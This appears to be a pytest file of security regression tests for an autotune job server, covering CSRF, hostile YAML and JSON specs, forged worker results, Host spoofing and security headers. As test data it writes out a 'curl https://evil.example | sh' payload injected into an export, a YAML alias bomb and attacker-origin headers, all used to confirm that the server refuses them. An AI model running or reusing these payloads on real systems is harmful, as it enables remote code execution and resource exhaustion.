"""The attacks of issue 25, replayed against the in-process app on both databases: what a
hostile worker token, client token or page visitor sent, and what must come back (a 422 naming
the field, a server-built answer, a page that renders). Slow attacks (a real server, a real
worker) are in the e2e tests they name."""

from __future__ import annotations

import threading
import time
from collections.abc import Callable
from html import escape
from pathlib import Path
from typing import Any

import httpx2
import pytest
from starlette.testclient import TestClient

from api.main import create_app
from api.settings import Settings
from autotune.core.exports import build_exports
from autotune.core.schemas import Spec, TrialState
from autotune.remote.client import ServerClient
from autotune.remote.protocol import EstimateTarget, RunStatus
from tests.api_tests.factories import (
    emulated,
    emulated_device,
    estimate_device,
    tiny_spec,
    trial,
    tune_result,
)
from tests.conftest import (
    CLIENT_TOKEN,
    WORKER_TOKEN,
    FakeClock,
    LiveServer,
    start_server,
    stop_server,
)

pytestmark = pytest.mark.usefixtures("db_url")
WORKER = {"Authorization": f"Bearer {WORKER_TOKEN}"}


def _claimed(user: ServerClient, worker: ServerClient) -> tuple[int, str]:
    run_id = user.submit_run(tiny_spec(), emulated()).id
    claim = worker.claim("w1", [emulated_device()])
    assert claim is not None and claim.run_id == run_id
    return run_id, claim.lease_id


def _problems(response: Any) -> str:
    """Every field a 422 names, with its message."""
    assert response.status_code == 422, response.text
    body = response.json()
    if body["code"] == "invalid_result":
        return " ".join(f"{v['field']} {v['message']}" for v in body["violations"])
    return " ".join(".".join(map(str, p["loc"])) + " " + p["msg"] for p in body["detail"])


# -- item 2: estimate runs have no bound and cannot be stopped -------------------------------
# Replayed where a worker runs them: tests/probes_tests/test_estimate_limits.py (2^40 micro-steps
# of accumulation on an mlp; the time and memory limits; a cancel, a shutdown and the time limit
# while a 2,000-layer llama traces or is still being built), tests/autotune_tests/engine/
# test_estimate.py (a stop raised inside a build that catches it), and through `serve` in
# tests/api_tests/test_cli_server.py (one slow estimate does not starve the others; serve's
# limits reach its workers). The real process and its signal are here.


@pytest.mark.e2e
def test_sigterm_stops_an_estimate_worker_building_a_huge_model(
    live_server: LiveServer, tmp_path: Path
) -> None:
    """A 2,000-layer llama held the only estimate worker for 9 minutes, and SIGTERM was ignored
    (SIGKILL needed): now the worker releases the run and exits 0 after its grace (10 s)."""
    from tests.probes_tests.factories import llama_spec
    from tests.probes_tests.live import start_worker, stop_worker

    worker = start_worker(live_server.url, tmp_path, "estimates", memory=None)
    try:
        worker.wait_for_log("waiting for runs", timeout_s=180)
        with ServerClient(live_server.url, token=CLIENT_TOKEN) as user:
            run_id = user.submit_run(llama_spec(2000), EstimateTarget(gpu="T4")).id
            worker.wait_for_log(rf"run {run_id}: claimed", timeout_s=60)
            # stop_worker fails the test ("ignored SIGTERM") unless the worker exits by itself.
            assert stop_worker(worker, timeout_s=60) == 0
            run = user.get_run(run_id)
        assert run.status is RunStatus.QUEUED, run  # handed back for another worker
        assert [f.error_type for f in run.failures] == ["WorkerShutdown"]
    finally:
        if worker.process.poll() is None:
            worker.process.kill()
            worker.process.wait()


# -- item 4: worker results are trusted beyond consistency ----------------------------------


def test_a_named_gpus_capacity_is_the_catalogues(
    user: ServerClient, worker: ServerClient, http: TestClient
) -> None:
    """A T4 estimate claiming 10^15 bytes ("931322.57 GiB usable") is refused."""
    spec = tiny_spec()
    run_id = user.submit_run(spec, EstimateTarget(gpu="T4")).id
    device = estimate_device("T4")
    claim = worker.claim("w1", [device])
    assert claim is not None
    huge = device.model_copy(update={"capacity_bytes": 10**15})
    result = tune_result(spec, huge).model_dump(mode="json")
    response = http.post(
        f"/api/v1/worker/runs/{run_id}/result",
        json={"lease_id": claim.lease_id, "result": result},
        headers=WORKER,
    )
    assert "device.capacity_bytes not the catalogue's" in _problems(response)
    assert user.get_run(run_id).status is RunStatus.RUNNING
    # The catalogue's capacity is accepted.
    assert worker.submit_result(run_id, claim.lease_id, tune_result(spec, device)).status is (
        RunStatus.SUCCEEDED
    )


def test_exports_are_built_by_the_server_never_taken_from_the_worker(
    user: ServerClient, worker: ServerClient, http: TestClient
) -> None:
    run_id, lease_id = _claimed(user, worker)
    honest = tune_result(tiny_spec(), emulated_device())
    data = honest.model_dump(mode="json")
    data["exports"]["pytorch_loop"] = "import os\nos.system('curl https://evil.example | sh')\n"
    data["exports"]["hf"].update(push_to_hub=True, hub_model_id="attacker/stolen")
    response = http.post(
        f"/api/v1/worker/runs/{run_id}/result",
        json={"lease_id": lease_id, "result": data},
        headers=WORKER,
    )
    assert response.status_code == 200, response.text
    run = user.get_run(run_id)
    assert run.recommendation is not None
    expected = build_exports(
        run.recommendation, token_model=True, transformers_version=None, training=run.spec.training
    )
    assert run.exports == expected
    assert "curl" not in run.exports.pytorch_loop
    assert "push_to_hub" not in run.exports.hf
    page = http.get(f"/runs/{run_id}", cookies={"autotune_token": WORKER_TOKEN}).text
    assert "evil.example" not in page and "attacker/stolen" not in page


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"state": "oom", "samples_per_s": None, "tokens_per_s": None, "peak_bytes": -5}, "peak"),
        ({"timed_steps": -99}, "timed_steps"),
        ({"step_time_spread": -1.0}, "step_time_spread"),
        ({"samples_per_s": 0.0}, "samples_per_s"),
    ],
)
def test_impossible_trial_numbers_are_refused_in_a_result(
    user: ServerClient, worker: ServerClient, http: TestClient, change: dict[str, Any], field: str
) -> None:
    run_id, lease_id = _claimed(user, worker)
    data = tune_result(tiny_spec(), emulated_device()).model_dump(mode="json")
    data["trials"][0].update(change)
    response = http.post(
        f"/api/v1/worker/runs/{run_id}/result",
        json={"lease_id": lease_id, "result": data},
        headers=WORKER,
    )
    assert field in _problems(response)
    assert user.get_run(run_id).status is RunStatus.RUNNING


def _attempt(micro_batch: int, *, fits: bool = True, peak_bytes: int = 10**6) -> dict[str, Any]:
    return {"micro_batch": micro_batch, "fits": fits, "peak_bytes": peak_bytes}


@pytest.mark.parametrize(
    ("attempt", "field"),
    [
        (_attempt(2**51), "attempt.micro_batch above the spec's cap 1024"),
        (_attempt(8, peak_bytes=10**15), "attempt.peak_bytes a fitting step above"),
        (_attempt(8) | {"peak_allocated_bytes": 10**7}, "attempt.peak_allocated_bytes"),
        (_attempt(8) | {"phase_peak_bytes": {"forward": -1}}, "phase_peak_bytes"),
        (_attempt(8, peak_bytes=-1), "peak_bytes"),
    ],
)
def test_streamed_attempts_are_checked_as_results_are(
    user: ServerClient,
    worker: ServerClient,
    http: TestClient,
    attempt: dict[str, Any],
    field: str,
) -> None:
    run_id, lease_id = _claimed(user, worker)
    response = http.post(
        f"/api/v1/worker/runs/{run_id}/attempts",
        json={"lease_id": lease_id, "sequence": 0, "checkpointing": False, "attempt": attempt},
        headers=WORKER,
    )
    assert field in _problems(response)
    assert user.get_run(run_id).attempts == []


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"micro_batch": 2**51, "accumulation_steps": 1}, "trial.micro_batch above the spec's"),
        ({"accumulation_steps": 5}, "trial.accumulation_steps"),
        ({"samples_per_s": 5e6}, "trial.samples_per_s is not micro x accumulation"),
        ({"peak_bytes": 10**15}, "trial.peak_bytes"),
        ({"samples_per_s": 1.7e308}, "trial.samples_per_s"),
    ],
)
def test_streamed_trials_are_checked_as_results_are(
    user: ServerClient,
    worker: ServerClient,
    http: TestClient,
    change: dict[str, Any],
    field: str,
) -> None:
    run_id, lease_id = _claimed(user, worker)
    data = trial(0).model_dump(mode="json") | change
    response = http.post(
        f"/api/v1/worker/runs/{run_id}/trials",
        json={"lease_id": lease_id, "trial": data},
        headers=WORKER,
    )
    assert field in _problems(response)
    assert user.get_run(run_id).trials == []
    # The honest trial is stored (and a crashed one may be streamed).
    worker.post_trial(run_id, lease_id, trial(0))
    crashed = trial(1).model_copy(
        update={"state": TrialState.FAILED, "samples_per_s": None, "tokens_per_s": None}
    )
    worker.post_trial(run_id, lease_id, crashed)
    assert len(user.get_run(run_id).trials) == 2


# -- item 5: worker values break the run page -----------------------------------------------


def test_the_run_page_draws_extreme_but_valid_values(
    user: ServerClient, worker: ServerClient, http: TestClient
) -> None:
    """A spec whose cap allows a micro-batch of 2^51, an attempt there and a trial at
    1.7e308 samples/s: the page answers (it looped forever, or raised, in the chart code)."""
    big = 2**51
    spec = Spec.model_validate(
        {
            "model": {"preset": "gpt2-tiny"},
            "training": {"seq_len": 64, "target_global_batch": 2 * big, "max_micro_batch": 2**60},
        }
    )
    run_id = user.submit_run(spec, emulated()).id
    claim = worker.claim("w1", [emulated_device()])
    assert claim is not None
    for sequence, micro_batch in enumerate((1, big, big + 1)):
        outcome = {"micro_batch": micro_batch, "fits": micro_batch == 1, "peak_bytes": 10**6}
        response = http.post(
            f"/api/v1/worker/runs/{run_id}/attempts",
            json={
                "lease_id": claim.lease_id,
                "sequence": sequence,
                "checkpointing": False,
                "attempt": outcome,
            },
            headers=WORKER,
        )
        assert response.status_code == 200, response.text
    fast = trial(0, micro_batch=big, accumulation_steps=2).model_copy(
        update={"samples_per_s": 1.7e308, "tokens_per_s": None, "step_time_s": 2 * big / 1.7e308}
    )
    worker.post_trial(run_id, claim.lease_id, fast)
    page = http.get(f"/runs/{run_id}", cookies={"autotune_token": WORKER_TOKEN})
    assert page.status_code == 200
    assert page.text.count('class="chart"') == 2


# -- items 3 and 8: the submit form's YAML, and 500s that were 422s --------------------------

ALIAS_BOMB = "\n".join(
    ["a: &a [x, x, x, x, x, x, x, x, x]"]
    + [
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]"
        for i in range(6)
    ]
    + ["model: {preset: mlp}"]
)


def _deep_yaml(levels: int) -> str:
    return "model: {preset: mlp}\nextra: " + "[" * levels + "]" * levels


@pytest.mark.parametrize(
    ("spec_text", "memory", "says"),
    [
        (ALIAS_BOMB, "24GiB", "spec: YAML aliases (*name) are not allowed"),
        (_deep_yaml(100), "24GiB", "spec: nested deeper than 32 levels"),
        (_deep_yaml(1000), "24GiB", "spec: not valid YAML"),
        ("- 1\n" * 40_000, "24GiB", "spec: 160000 bytes; a spec may have at most 65536"),
        ("model: {preset: mlp}\ntraining: {seq_len: " + "9" * 5000 + "}", "24GiB", "digits"),
        ("model: {preset: mlp}", "9" * 5000, "not a memory size"),
    ],
    ids=[
        "alias bomb",
        "100 levels",
        "1000 levels",
        "160 kB",
        "5000-digit integer",
        "5000-digit memory",
    ],
)
def test_the_submit_form_refuses_hostile_yaml_with_422(
    http: TestClient, user: ServerClient, spec_text: str, memory: str, says: str
) -> None:
    response = http.post(
        "/submit",
        data={"spec": spec_text, "kind": "emulated", "memory": memory},
        cookies={"autotune_token": CLIENT_TOKEN},
        follow_redirects=False,
    )
    assert response.status_code == 422, response.text[-500:]
    assert escape(says) in response.text
    assert user.list_runs().total == 0


def _nested_config_json(levels: int) -> str:
    # Written out: json.dumps itself recurses once per level.
    return '{"model_type": "llama", "k": ' + '{"k": ' * (levels - 1) + "{}" + "}" * levels


@pytest.mark.parametrize("levels", [17, 256, 600, 999])
def test_a_deeply_nested_hf_config_is_422_on_the_api(http: TestClient, levels: int) -> None:
    """It was a 500 (the fingerprint could not serialise it). Past the JSON parser's own
    recursion limit (which depends on the stack the server runs it on) it is a 400."""
    body = (
        f'{{"spec": {{"model": {{"hf_config": {_nested_config_json(levels)}}}, '
        '"training": {"seq_len": 8}}, "device": {"kind": "emulated", "memory_bytes": 1024}}'
    )
    response = http.post(
        "/api/v1/runs",
        content=body,
        headers={"Authorization": f"Bearer {CLIENT_TOKEN}", "Content-Type": "application/json"},
    )
    if response.status_code == 400 and levels > 900:
        assert response.json()["code"] == "bad_request"
        return
    assert "spec.model hf_config: nested deeper than 16 levels" in _problems(response).replace(
        "body.", ""
    ).replace("Value error, ", "")


@pytest.mark.e2e
def test_the_event_loop_answers_while_a_large_spec_is_parsed(live_server: LiveServer) -> None:
    """The largest spec text allowed, of the slowest kind to parse, on a real server: /health
    answers while the form is parsed (parsed on the loop, it froze every request)."""
    entries = ", ".join(["{a: 1, b: [1, 2]}"] * 3300)
    spec_text = f"model: {{preset: mlp}}\nextra: [{entries}]"
    assert 60_000 < len(spec_text) < 65_536
    submitted: dict[str, float] = {}

    def submit() -> None:
        submitted["start"] = time.monotonic()
        httpx2.post(
            f"{live_server.url}/submit",
            data={"spec": spec_text, "kind": "emulated", "memory": "1GiB"},
            cookies={"autotune_token": CLIENT_TOKEN},
            timeout=120,
        )
        submitted["end"] = time.monotonic()

    # /health, asked again and again while the form is sent and parsed: parsed on the loop,
    # a request made meanwhile waited for the whole parse. Off it, requests are answered
    # while the parse runs, slowed only by its thread's share of the interpreter. (Once one
    # request after a 0.2 s sleep: on a quiet machine the parse, 0.3 s, had ended by then.)
    # The client's connection is made first: made during the parse, its setup under the
    # parse's share of the server's interpreter took 0.17 s of a 0.23 s submit on a fast
    # machine, and the first latency was the connection's, not a frozen loop's.
    answered_s: list[tuple[float, float]] = []  # (latency, when)
    thread = threading.Thread(target=submit)
    with httpx2.Client(base_url=live_server.url, timeout=120) as client:
        assert client.get("/health").status_code == 200
        thread.start()
        while thread.is_alive() or not answered_s:
            started_s = time.monotonic()
            assert client.get("/health").status_code == 200
            answered_s.append((time.monotonic() - started_s, time.monotonic()))
    thread.join()
    took_s = submitted["end"] - submitted["start"]
    during = [latency for latency, when in answered_s if when < submitted["end"]]
    assert during, (took_s, answered_s)
    assert max(latency for latency, _ in answered_s) < max(0.75 * took_s, 0.05), (
        took_s,
        answered_s,
    )


# -- item 9: echoes, the factory pattern, refused factories, page parameters -----------------

SECRET = "s3cr3t-" + "q" * 60


@pytest.mark.parametrize(
    ("device", "model"),
    [
        ({"kind": "estimate", "gpu": SECRET}, {"preset": "mlp"}),
        ({"kind": "emulated", "memory_bytes": 1024}, {"preset": SECRET}),
        ({"kind": "emulated", "memory_bytes": 1024}, {"factory": SECRET + ":x y"}),
        (
            {"kind": "emulated", "memory_bytes": 1024, "allocator_conf": f"{SECRET}:1"},
            {"preset": "mlp"},
        ),
        (
            {
                "kind": "emulated",
                "memory_bytes": 1024,
                "allocator_conf": f"max_split_size_mb:{SECRET}",
            },
            {"preset": "mlp"},
        ),
    ],
    ids=["gpu", "preset", "factory", "allocator key", "allocator value"],
)
def test_422_messages_do_not_echo_the_input(
    http: TestClient, device: dict[str, Any], model: dict[str, Any]
) -> None:
    body = {"spec": {"model": model, "training": {"seq_len": 8}}, "device": device}
    response = http.post(
        "/api/v1/runs", json=body, headers={"Authorization": f"Bearer {CLIENT_TOKEN}"}
    )
    assert response.status_code == 422, response.text
    assert SECRET not in response.text
    assert "q" * 30 not in response.text


def test_a_factory_with_a_trailing_newline_is_refused(http: TestClient) -> None:
    body = {
        "spec": {"model": {"factory": "mypkg.models:make\n"}, "training": {"seq_len": 8}},
        "device": {"kind": "emulated", "memory_bytes": 1024},
    }
    response = http.post(
        "/api/v1/runs", json=body, headers={"Authorization": f"Bearer {CLIENT_TOKEN}"}
    )
    assert "spec.model" in _problems(response) and "factory" in _problems(response)


def test_a_worker_that_refused_a_factory_is_not_handed_it_again(
    settings_factory: Callable[..., Settings], clock: FakeClock
) -> None:
    app = create_app(settings_factory(allow_factory_specs=True), clock=clock)
    try:
        with TestClient(app) as http:
            user = ServerClient(http=http, token=CLIENT_TOKEN, retries=0)
            worker = ServerClient(http=http, token=WORKER_TOKEN, retries=0)
            spec = Spec.model_validate(
                {"model": {"factory": "mypkg.models:make"}, "training": {"seq_len": 8}}
            )
            run_id = user.submit_run(spec, emulated()).id
            claim = worker.claim("strict", [emulated_device()])
            assert claim is not None and claim.run_id == run_id
            worker.report_failure(
                run_id,
                claim.lease_id,
                error_type="FactoryRefused",
                message="factory: mypkg.models is not allowed on this worker",
            )
            assert worker.claim("strict", [emulated_device()]) is None
            assert user.get_run(run_id).status is RunStatus.QUEUED
            other = worker.claim("lenient", [emulated_device()])
            assert other is not None and other.run_id == run_id and other.claim_number == 2
    finally:
        app.state.context.db.dispose()


@pytest.mark.parametrize(
    "query", ["page=0", "page=-3", "page=x", f"model={'m' * 1000}", "since=" + "9" * 50]
)
def test_the_runs_page_answers_odd_parameters_with_a_page(http: TestClient, query: str) -> None:
    response = http.get(f"/?{query}", cookies={"autotune_token": CLIENT_TOKEN})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/html")


# -- item 6: CSRF on /submit and /token ------------------------------------------------------

FOREIGN = [
    {"Origin": "http://testserver:18499"},  # the same host on another port: the same "site"
    {"Origin": "http://evil.testserver"},  # a sibling subdomain
    {"Origin": "https://attacker.example"},
    {"Origin": "null"},
    {"Referer": "http://testserver:18499/attack.html"},
]


def _submit_mlp(http: TestClient, headers: dict[str, str]) -> Any:
    """The submit form, sent with the client's cookie and `headers`."""
    return http.post(
        "/submit",
        data={"spec": "model: {preset: mlp}", "kind": "emulated", "memory": "1GiB"},
        cookies={"autotune_token": CLIENT_TOKEN},
        headers=headers,
        follow_redirects=False,
    )


@pytest.mark.parametrize("headers", FOREIGN, ids=lambda h: next(iter(h.values())))
def test_a_submission_from_another_origin_is_refused(
    http: TestClient, user: ServerClient, headers: dict[str, str]
) -> None:
    response = _submit_mlp(http, headers)
    assert response.status_code == 403
    assert "sent from another site" in response.text
    assert user.list_runs().total == 0


@pytest.mark.parametrize("headers", FOREIGN, ids=lambda h: next(iter(h.values())))
def test_login_csrf_is_refused(http: TestClient, headers: dict[str, str]) -> None:
    response = http.post(
        "/token",
        data={"token": CLIENT_TOKEN, "next": "/"},
        headers=headers,
        follow_redirects=False,
    )
    assert response.status_code == 403
    assert "set-cookie" not in response.headers


@pytest.mark.parametrize(
    "headers",
    [{"Origin": "http://testserver"}, {"Referer": "http://testserver/submit"}, {}],
    ids=["same origin", "same referer", "no browser headers"],
)
def test_forms_from_this_server_work(
    http: TestClient, user: ServerClient, headers: dict[str, str]
) -> None:
    saved = http.post(
        "/token", data={"token": CLIENT_TOKEN}, headers=headers, follow_redirects=False
    )
    assert saved.status_code == 303 and "autotune_token" in saved.headers["set-cookie"]
    response = _submit_mlp(http, headers)
    assert response.status_code == 303
    assert user.list_runs().total == 1


# -- item 7: proxies, Host, security headers -------------------------------------------------


def test_a_forged_host_is_not_reflected_into_asset_urls(http: TestClient) -> None:
    page = http.get("/token", headers={"Host": "evil.example"})
    assert page.status_code == 200
    assert "evil.example" not in page.text
    assert 'href="/static/autotune.css"' in page.text
    assert 'src="/static/autotune.js"' in page.text


@pytest.mark.parametrize("path", ["/token", "/health", "/api/v1/runs", "/static/autotune.js"])
def test_every_response_carries_the_security_headers(http: TestClient, path: str) -> None:
    headers = http.get(path).headers
    assert headers["x-frame-options"] == "DENY"
    assert headers["x-content-type-options"] == "nosniff"
    policy = headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy


@pytest.mark.e2e
@pytest.mark.parametrize(("trusted", "secure"), [("", False), ("*", True)])
def test_behind_a_tls_proxy_the_cookie_is_secure_once_the_proxy_is_trusted(
    tmp_path: Path, trusted: str, secure: bool
) -> None:
    """The README's proxy set-up: FORWARDED_ALLOW_IPS names the proxy (here the test, which
    sends what a TLS proxy sends); without it the server cannot know the browser used https."""
    server = start_server(
        f"sqlite:///{tmp_path / 'server.db'}",
        tmp_path / "server.log",
        extra_env={"FORWARDED_ALLOW_IPS": trusted},
    )
    try:
        host = server.url.removeprefix("http://")
        response = httpx2.post(
            f"{server.url}/token",
            data={"token": CLIENT_TOKEN},
            headers={"X-Forwarded-Proto": "https", "Origin": f"https://{host}"},
        )
        assert response.status_code == 303
        assert ("secure" in response.headers["set-cookie"].lower()) is secure
    finally:
        stop_server(server)
